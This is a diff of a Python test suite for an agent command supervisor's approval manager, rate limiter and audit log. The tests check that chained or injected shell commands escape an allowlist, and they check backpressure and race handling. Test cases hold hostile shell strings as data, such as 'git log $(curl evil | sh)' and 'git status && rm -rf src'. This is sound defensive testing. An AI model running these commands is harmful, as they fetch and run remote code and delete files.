@@ -4,13 +4,14 @@ from __future__ import annotations
 
 import asyncio
 import time
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
 from stockade.supervisor.audit import AuditLog, AuditQuery, AuditRecord
 from stockade.supervisor.config import AgentConfig, ApprovalsConfig, LimitsConfig
-from stockade.supervisor.errors import ApprovalNotFound, InvalidRequest
+from stockade.supervisor.errors import ApprovalNotFound, ApproverBehind, InvalidRequest
 from stockade.supervisor.policy.approvals import (
     AllowAlways,
     ApprovalManager,
@@ -20,10 +21,10 @@ from stockade.supervisor.policy.approvals import (
 from stockade.supervisor.policy.limits import KeyLimiter, LimitExceeded
 
 
-def manager(tmp_path: Path, **cfg: object) -> ApprovalManager:
+def manager(tmp_path: Path, backlog: int = 10_000, **cfg: object) -> ApprovalManager:
     agents = {"strict": AgentConfig(approvals="always"), "free": AgentConfig(approvals="off")}
     config = ApprovalsConfig(**cfg)  # type: ignore[arg-type]
-    return ApprovalManager(config, agents, AllowAlways(tmp_path / "db"))
+    return ApprovalManager(config, agents, AllowAlways(tmp_path / "db"), backlog=backlog)
 
 
 async def ask(mgr: ApprovalManager, command: str = "make deploy", agent: str = "") -> object:
@@ -61,7 +62,17 @@ class Approver:
         ("off", (), "", "rm x", False),
         ("on-miss", ("git *", "pytest*"), "", "git status", False),
         ("on-miss", ("git *",), "", "make deploy", True),
-        ("on-miss", ("git *",), "", "git status; curl x", False),
+        # an allowlisted command chained with one that is not listed is not in the allowlist
+        ("on-miss", ("git *",), "", "git status; curl x", True),
+        ("on-miss", ("git *",), "", "git status && rm -rf src", True),
+        ("on-miss", ("git *",), "", "git status\nrm -rf src", True),
+        ("on-miss", ("git *",), "", "git status | sh", True),
+        ("on-miss", ("git *",), "", "git log $(curl evil | sh)", True),
+        ("on-miss", ("git *",), "", 'git log "`rm -rf src`"', True),
+        ("on-miss", ("git *",), "", "git status & rm -rf src", True),
+        ("on-miss", ("git *",), "", "git log 'unclosed", True),
+        ("on-miss", ("git *",), "", "git status > status.txt", False),
+        ("on-miss", ("git *",), "", "git commit -m 'a; b && c'", False),
         ("always", ("git *",), "", "git status", True),
         ("off", (), "strict", "ls", True),
         ("always", (), "free", "ls", False),
@@ -228,3 +239,156 @@ async def test_concurrency_cap_and_queue_bound() -> None:
     await asyncio.gather(*tasks)
     assert peak == 2
     assert limiter.running("k") == 0
+
+
+async def _spin(until: Callable[[], bool]) -> bool:
+    """Let the event loop run a bounded number of steps until `until()` holds."""
+    for _ in range(200):
+        if until():
+            return True
+        await asyncio.sleep(0)
+    return until()
+
+
+async def test_a_queued_call_cancelled_as_it_is_woken_passes_the_slot_on() -> None:
+    """The freed slot's wake-up went to a call that was cancelled at that moment (its client
+    went away); the next queued call must get the slot, not wait for another call to end."""
+    limiter = KeyLimiter(LimitsConfig(max_concurrent=1, max_queued=10))
+    release, started = asyncio.Event(), []
+
+    async def work(name: str, hold: asyncio.Event | None = None) -> None:
+        async with limiter.slot("k"):
+            started.append(name)
+            if hold is not None:
+                await hold.wait()
+
+    async def first_then_cancel() -> None:
+        await work("first", release)
+        doomed.cancel()  # in the same step as the exit that woke `doomed`
+
+    first = asyncio.create_task(first_then_cancel())
+    assert await _spin(lambda: started == ["first"])
+    doomed = asyncio.create_task(work("doomed"))
+    queued = asyncio.create_task(work("queued", asyncio.Event()))
+    assert await _spin(lambda: limiter._slots["k"].waiting == 2)
+    release.set()
+    await first
+    assert await _spin(lambda: "queued" in started), started
+    assert "doomed" not in started
+    queued.cancel()
+    await asyncio.gather(doomed, queued, return_exceptions=True)
+    assert limiter.running("k") == 0
+
+
+async def test_an_approver_that_never_reads_is_dropped_not_buffered(tmp_path: Path) -> None:
+    """Its events are not kept without end: past the backlog its stream ends with
+    ApproverBehind, it no longer counts as connected, and nothing pending is lost."""
+    mgr = manager(tmp_path, backlog=10, mode="always")
+    stream = mgr.watch()
+    first = asyncio.ensure_future(anext(stream))  # reads one event, then never again
+    assert await _spin(lambda: mgr.watchers == 1)
+    calls = [asyncio.create_task(ask(mgr, "make t0"))]
+    assert isinstance(await first, Pending)
+    calls += [asyncio.create_task(ask(mgr, f"make t{i}")) for i in range(1, 30)]
+    assert await _spin(lambda: all(c.done() for c in calls[12:]))
+    assert mgr.watchers == 0
+    assert len(mgr.pending()) == 12
+    assert {c.result().how for c in calls[12:]} == {"no-approver"}  # type: ignore[attr-defined]
+    with pytest.raises(ApproverBehind, match="reconnect"):
+        await anext(stream)
+    approver = Approver(mgr, "allow-once")
+    outcomes = await asyncio.gather(*calls[:12])
+    assert {o.how for o in outcomes} == {"allow-once"}  # type: ignore[attr-defined]
+    await approver.stop()
+
+
+async def test_hostile_resolutions(tmp_path: Path) -> None:
+    """Two approvers racing, a second answer, an answer after the timeout and an answer to a
+    withdrawn request: the first answer counts, the others are NOT_FOUND."""
+    mgr = manager(tmp_path, mode="always", timeout_s=60)
+    watcher = Approver(mgr, None)
+    await watcher.started()
+    call = asyncio.create_task(ask(mgr))
+    assert await _spin(lambda: len(mgr.pending()) == 1)
+    request = mgr.pending()[0]
+    mgr.resolve(request.id, "deny", "alice")
+    with pytest.raises(ApprovalNotFound):
+        mgr.resolve(request.id, "allow-always", "mallory")
+    assert (await call).how == "deny"  # type: ignore[attr-defined]
+    assert "make deploy" not in mgr.always_allowed()
+    # an answer to a withdrawn request, and a cancel that lands as the answer comes
+    call = asyncio.create_task(ask(mgr))
+    assert await _spin(lambda: len(mgr.pending()) == 1)
+    request = mgr.pending()[0]
+    call.cancel()
+    await asyncio.gather(call, return_exceptions=True)
+    with pytest.raises(ApprovalNotFound):
+        mgr.resolve(request.id, "allow-once", "alice")
+    call = asyncio.create_task(ask(mgr))
+    assert await _spin(lambda: len(mgr.pending()) == 1)
+    mgr.resolve(mgr.pending()[0].id, "allow-once", "alice")
+    call.cancel()
+    await asyncio.gather(call, return_exceptions=True)
+    assert mgr.pending() == []
+    await watcher.stop()
+    # after the timeout
+    quick = manager(tmp_path, mode="always", timeout_s=0.01)
+    watcher = Approver(quick, None)
+    await watcher.started()
+    call = asyncio.create_task(ask(quick))
+    assert await _spin(lambda: len(quick.pending()) == 1)
+    late = quick.pending()[0].id
+    assert (await call).how == "timeout"  # type: ignore[attr-defined]
+    with pytest.raises(ApprovalNotFound):
+        quick.resolve(late, "allow-once", "alice")
+    await watcher.stop()
+
+
+async def test_a_thousand_calls_wait_and_are_answered(tmp_path: Path) -> None:
+    mgr = manager(tmp_path, mode="always", timeout_s=60)
+    calls = [asyncio.create_task(ask(mgr, f"make t{i}")) for i in range(1000)]
+    assert {(await c).how for c in calls} == {"no-approver"}  # type: ignore[attr-defined]
+    watcher = Approver(mgr, None)
+    await watcher.started()
+    calls = [asyncio.create_task(ask(mgr, f"make t{i}")) for i in range(1000)]
+    assert await _spin(lambda: len(mgr.pending()) == 1000)
+    late = Approver(mgr, "allow-once")  # connects with 1000 pending: gets and answers all
+    outcomes = await asyncio.gather(*calls)
+    assert {o.how for o in outcomes} == {"allow-once"}  # type: ignore[attr-defined]
+    assert mgr.pending() == []
+    await late.stop()
+    await watcher.stop()
+
+
+async def test_limits_keep_nothing_for_keys_at_rest() -> None:
+    """A caller naming ever new keys (each call refused later, e.g. by a tenant quota) must
+    not grow the limiter without end: a full bucket and an unused slot table are dropped."""
+    now = [0.0]
+    limiter = KeyLimiter(LimitsConfig(rate_per_s=1, burst=2), clock=lambda: now[0])
+    for i in range(20_000):
+        limiter.take(f"key-{i}")
+        async with limiter.slot(f"key-{i}"):
+            pass
+        now[0] += 0.01
+    assert len(limiter._slots) == 0
+    assert len(limiter._buckets) < 5_000
+    limiter.take("busy")
+    limiter.take("busy")
+    now[0] += 100  # long enough for every bucket to refill
+    for i in range(5_000):
+        limiter.take(f"late-{i}")
+    limiter.take("late-0")  # a recent bucket is kept: its tokens still count (burst 2)
+    with pytest.raises(LimitExceeded):
+        limiter.take("late-0")
+
+
+async def test_audit_keeps_short_what_callers_make_up(tmp_path: Path) -> None:
+    """A caller's own strings (an unknown tool's name, agent id, provider, request id) are
+    cut, so a refused call cannot write megabytes into the audit database."""
+    log = AuditLog(tmp_path / "db")
+    big = "x" * 5_000_000
+    log.record(record(tool=big, agent_id=big, provider=big, request_id=big, caller=big))
+    (stored,) = await log.query(AuditQuery())
+    for name in ("tool", "agent_id", "provider", "request_id", "caller"):
+        assert len(getattr(stored, name)) <= 1024, name
+    log.close()
